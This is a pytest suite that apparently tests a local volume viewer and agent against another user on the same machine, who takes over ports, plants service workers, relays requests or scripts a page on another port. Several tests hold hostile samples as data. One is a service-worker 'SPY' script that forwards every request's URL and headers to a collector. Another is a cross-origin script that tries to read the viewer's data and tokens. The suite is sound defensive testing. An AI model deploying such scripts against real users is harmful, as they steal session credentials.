"""Another user of the same machine, and a real browser: ports that are taken over, pages on other ports, relays."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from pellucid.volume.sample_volume import sample
from tests.agent.impostor import doors_opened, impostor
from tests.agent.processes import AgentProcess, agent
from tests.waiting import TIMEOUT_MS, wait_until
from tests.web.browsing import Viewer, opened, see, wait_for_rest

DOUBT = "The server at this address is not the viewer that opened this page."


@pytest.fixture(scope="module", autouse=True)
def _root() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root")


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport={"width": 800, "height": 600})
    yield made
    made.close()


@pytest.fixture(scope="module")
def scan(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("scans") / "ball.npy"
    np.save(path, sample(16))
    return path


@pytest.fixture
def viewer(scan: Path) -> Iterator[Viewer]:
    started = Viewer(scan)
    started.start()
    yield started
    started.kill()


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
    with agent(tmp_path_factory.mktemp("state"), PELLUCID_DEVICE="cpu") as started:
        yield started


def port_of(address: str) -> int:
    return int(address.split(":")[2].partition("/")[0])


def direct(running: AgentProcess, id: str) -> str:
    """A viewer's own address."""
    return f"http://127.0.0.1:{json.loads((running.place(id) / 'address.json').read_text())['port']}/"


def token_in(page: Page) -> str:
    return str(page.evaluate("Object.values(sessionStorage)[0]"))


def test_who_takes_over_a_viewers_port_learns_nothing_that_opens_anything(
    viewer: Viewer, context: BrowserContext, tmp_path: Path
) -> None:
    page = context.new_page()
    opened(page, viewer.url)
    unused, token, port = viewer.url, token_in(page), viewer.port
    viewer.kill()
    with impostor(tmp_path, port) as other:
        see(page, DOUBT)
        page.keyboard.press("o")  # Would list files.
        assert '"type":"prove"' in other.recorded and token not in other.recorded
        page.reload()
        wait_until(lambda: "POST /stolen" in other.recorded)
        assert token not in other.recorded  # The page has thrown it away, ...
        page.goto("about:blank")
        page.goto(unused)
        wait_until(lambda: unused.partition("#code=")[2] in other.recorded)
        stolen = other.secrets
    viewer.start("--port", str(port))  # ... and what it is robbed of opens nothing, even where the viewer is back.
    assert doors_opened(stolen, [viewer.address]) == []
    page.goto("about:blank")
    opened(page, viewer.url)


SPY = """
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
onfetch = ({ request }) => {
    const body = request.url + JSON.stringify([...request.headers]);
    fetch("http://127.0.0.1:PORT/", { method: "POST", mode: "no-cors", body });
};"""


def test_a_worker_that_was_left_at_a_port_hears_no_request_after_the_restart(
    viewer: Viewer, context: BrowserContext, tmp_path: Path
) -> None:
    """A service worker stays with its address, and comes between the page and the viewer that is back there."""
    page, port = context.new_page(), viewer.port
    opened(page, viewer.url)
    with impostor(tmp_path) as collector:
        viewer.kill()
        script = 'navigator.serviceWorker.register("/worker.js")'
        with impostor(tmp_path, port, page=script, worker=SPY.replace("PORT", str(collector.port))):
            context.new_page().goto(page.url)
            wait_until(lambda: page.evaluate("navigator.serviceWorker.controller !== null"))
        see(page, "The viewer does not respond")
        wait_until(lambda: "icon.svg" in collector.recorded)  # Which the page has asked for: the worker reads requests.
        viewer.start("--port", str(port))
        page.wait_for_url(f"{viewer.address}**", timeout=TIMEOUT_MS)
        wait_for_rest(page)
        page.keyboard.press("o")
        expect(page.get_by_role("button", name="ball.npy 16")).to_be_visible(timeout=TIMEOUT_MS)
        assert token_in(page) not in collector.recorded
        assert doors_opened(collector.secrets, [viewer.address]) == []


def test_who_takes_over_an_agents_port_learns_nothing_that_opens_anything(
    running: AgentProcess, scan: Path, context: BrowserContext, tmp_path: Path
) -> None:
    id = running.view(gpus=0, source=str(scan), roots=[str(scan.parent)])
    running.until(id, "running")
    home, page = context.new_page(), context.new_page()
    home.goto(running.url)
    expect(home.locator("#jobs")).to_contain_text("ball", timeout=TIMEOUT_MS)
    opened(page, running.link(id))
    unused = [running.url, running.link(id)]
    tokens = [token_in(home), token_in(page)]
    port = port_of(running.base)
    running.kill()
    with impostor(tmp_path, port) as other:
        see(page, DOUBT)
        expect(home.get_by_role("alert")).to_contain_text("not the agent that opened this page")
        assert not any(token in other.recorded for token in tokens)
        home.reload()
        wait_until(lambda: tokens[0] in other.recorded)
        page.reload()
        wait_until(lambda: other.recorded.count("POST /stolen") == 2)
        assert tokens[1] not in other.recorded
        for link in unused:
            page.goto("about:blank")
            page.goto(link)
            code = link.partition("#code=")[2]
            wait_until(lambda code=code: code in other.recorded)  # type: ignore[misc]
        running.start()
        running.until(id, "running")
        places = [running.base, f"{running.base}i/{id}/", direct(running, id)]
        assert doors_opened(other.secrets, places) == []
    running.cancel(id)


def test_a_relay_to_the_next_agent_is_seen_through(
    running: AgentProcess, scan: Path, context: BrowserContext, tmp_path: Path
) -> None:
    id = running.view(gpus=0, source=str(scan), roots=[str(scan.parent)])
    running.until(id, "running")
    page = context.new_page()
    opened(page, running.link(id))
    token, port = token_in(page), port_of(running.base)
    running.kill()
    running.start()
    running.until(id, "running")
    with impostor(tmp_path, port, target=port_of(running.base)) as other:
        see(page, DOUBT)
        assert token not in other.recorded
        page.reload()
        see(page, "This address needs a link with a code.")
        places = [running.base, f"{running.base}i/{id}/", direct(running, id)]
        assert doors_opened(other.secrets, places) == []
    running.cancel(id)


def test_an_owners_page_goes_on_through_the_next_agent_at_the_same_port(
    scan: Path, browser: Browser, tmp_path: Path
) -> None:
    """Where the port is chosen. The page is at the new name afterwards."""
    context = browser.new_context()
    (tmp_path / "state").mkdir()
    chosen = AgentProcess(tmp_path / "state", PELLUCID_DEVICE="cpu")
    chosen.start()
    try:
        port = port_of(chosen.base)
        id = chosen.view(gpus=0, source=str(scan), roots=[str(scan.parent)])
        chosen.until(id, "running")
        page = context.new_page()
        opened(page, chosen.link(id))
        chosen.kill()
        see(page, "The viewer does not respond")
        chosen.start("--port", str(port))
        expect(page.get_by_text("The viewer does not respond")).to_have_count(0, timeout=TIMEOUT_MS)
        page.wait_for_url(f"{chosen.base}i/{id}/", timeout=TIMEOUT_MS)
        wait_for_rest(page)
        page.reload()
        wait_for_rest(page)
        chosen.cancel(id)
        chosen.until(id, "ended")
    finally:
        chosen.stop()
        context.close()


def test_a_page_on_another_port_gets_nothing(viewer: Viewer, context: BrowserContext, tmp_path: Path) -> None:
    page = context.new_page()
    opened(page, viewer.url)
    token, base = token_in(page), viewer.address
    script = f"""
        const shown = document.createElement("iframe"); shown.src = "{base}"; document.documentElement.append(shown);
        const image = new Image(); image.onload = () => fetch("/seen");
        image.src = "{base}api/screenshot?width=8&height=8";
        fetch("{base}api/scene", {{ credentials: "include" }}).then((said) => said.text()).then((said) =>
            fetch("/read", {{ method: "POST", body: text }})).catch(() => fetch("/refused"));
        const line = new WebSocket("{base.replace("http", "ws")}ws"); line.onopen = () => fetch("/connected");
        line.onclose = () => fetch("/closed"); STEAL"""
    with impostor(tmp_path, page=script) as other:
        page.evaluate("(address) => window.open(address)", f"http://127.0.0.1:{other.port}/")
        for word in ("GET /refused", "GET /closed", "POST /stolen"):
            wait_until(lambda word=word: word in other.recorded)  # type: ignore[misc]
        assert "cookie:" not in other.recorded.lower() and token not in other.recorded
        for word in ("GET /seen", "POST /read", "GET /connected"):
            assert word not in other.recorded
        stolen = other.secrets
    assert context.cookies() == []
    assert doors_opened(stolen, [base]) == []
